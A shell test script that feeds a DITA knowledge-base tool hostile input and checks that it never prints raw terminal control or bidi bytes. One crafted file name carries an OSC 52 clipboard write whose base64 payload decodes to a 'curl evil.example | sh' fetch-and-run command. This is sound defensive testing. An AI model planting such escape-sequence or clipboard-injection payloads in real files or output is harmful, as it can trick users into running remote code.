#!/bin/sh
# SPDX-License-Identifier: MIT
# Text we did not write never reaches a terminal raw: file names with escape
# sequences, C1 controls and bidi overrides in titles, ids and codes, an
# escape typed on the command line.  Every output path is checked for the
# bytes that could act on a terminal: ESC and other C0 controls (but tab and
# newline), DEL, C1 controls (UTF-8 C2 80..C2 9F) and bidi overrides and
# isolates (E2 80 AA..AE, E2 81 A6..A9).
. "$top_srcdir/tests/lib.sh"

LC_ALL=C
export LC_ALL
unset LANGUAGE

esc=$(printf '\033')
bel=$(printf '\007')
c1=$(printf '\302\233')          # U+009B, CSI
rlo=$(printf '\342\200\256')     # U+202E, right-to-left override
fsi=$(printf '\342\201\250')     # U+2068, first strong isolate

# raw_bytes NAME FILE: FILE holds none of the bytes above.
raw_bytes() {
	if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$2"; then
		fail "$1: a C0 control or DEL in $2: $(od -c "$2" | head -n 5)"
	elif LC_ALL=C grep -q "$(printf '\302[\200-\237]')" "$2"; then
		fail "$1: a C1 control in $2"
	elif LC_ALL=C grep -q "$(printf '\342\200[\252-\256]')\|$(printf '\342\201[\246-\251]')" "$2"; then
		fail "$1: a bidi override or isolate in $2"
	else
		pass "$1: no raw control or bidi bytes"
	fi
}

pack=$T/pack
mkdir -p "$pack"
# A file named with an OSC title sequence and an OSC 52 clipboard write.
evil="evil${esc}]0;owned${bel}${esc}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${bel}"
cat >"$pack/pack.ditamap" <<EOF_MAP
<?xml version="1.0" encoding="UTF-8"?>
<map><title>Hostile ${c1}pack${rlo}</title>
<topichead navtitle="Other ${fsi}issues">
<topicref href="good.dita"/>
<topicref href="hostile.dita"/>
</topichead></map>
EOF_MAP
cat >"$pack/good.dita" <<'EOF_T'
<?xml version="1.0" encoding="UTF-8"?>
<troubleshooting id="good-topic"><title>A good topic</title>
<troublebody><condition><p>Nothing odd here.</p></condition></troublebody></troubleshooting>
EOF_T
cat >"$pack/hostile.dita" <<EOF_T
<?xml version="1.0" encoding="UTF-8"?>
<troubleshooting id="hostile-topic"><title>Title ${c1}31m with <msgnum>Code${rlo}X</msgnum></title>
<shortdesc>Short ${rlo}desc</shortdesc>
<prolog><metadata><keywords><keyword>kw${c1}</keyword></keywords></metadata></prolog>
<troublebody><condition><p>Body ${c1}]52;c;x and ${fsi}isolate</p></condition>
<troubleSolution><cause><p>c</p></cause><remedy><steps>
<step><cmd>Step ${c1}one</cmd></step></steps></remedy></troubleSolution>
</troublebody></troubleshooting>
EOF_T
# a topic file named with escapes, broken and not in the map: both are
# diagnostics that name the file
printf '<troubleshooting id="x"><title>broken' >"$pack/${evil}.dita"

expect_rc 0 "--validate of the hostile pack (warnings only)" "$ENROLLKB" --validate --no-builtin --content "$pack"
raw_bytes "--validate stdout" "$T/out"
raw_bytes "--validate stderr" "$T/err"
expect_grep "the escape is shown in caret notation" 'evil\^\[\]0;owned\^G' "$T/out"
expect_grep "a C1 control in content is a warning with file and line" 'hostile\.dita:2: warning: control or bidirectional character U\+009B' "$T/out"

expect_rc 0 "--list" "$ENROLLKB" --list --no-builtin --content "$pack"
raw_bytes "--list stdout" "$T/out"
raw_bytes "--list stderr" "$T/err"
expect_grep "the good topic still listed" '^good-topic	A good topic$' "$T/out"

expect_rc 0 "--search" "$ENROLLKB" --search "title" --no-builtin --content "$pack"
raw_bytes "--search stdout" "$T/out"
expect_grep "the hostile title found, made safe" '^hostile-topic	' "$T/out"

expect_rc 0 "--show" "$ENROLLKB" --show hostile-topic --no-builtin --content "$pack"
raw_bytes "--show stdout" "$T/out"
expect_grep "the body is shown" 'Body .*isolate' "$T/out"

expect_rc 0 "--checklist" "$ENROLLKB" --checklist hostile-topic --no-builtin --content "$pack"
raw_bytes "--checklist stdout" "$T/out"

expect_rc 1 "--show with an escape in the id asked for" "$ENROLLKB" --show "nosuch${esc}]0;t${bel}"
raw_bytes "--show nosuch stderr" "$T/err"

expect_rc 2 "an unknown option with an escape" "$ENROLLKB" "--bogus${esc}[2J"
raw_bytes "usage error stderr" "$T/err"

# --cases with a case name holding controls (typed by a user)
expect_rc 0 "a case with controls in its name" "$ENROLLKB" --checklist device-cap-reached --case "INC${c1}1${rlo}"
expect_rc 0 "--cases" "$ENROLLKB" --cases
raw_bytes "--cases stdout" "$T/out"

finish
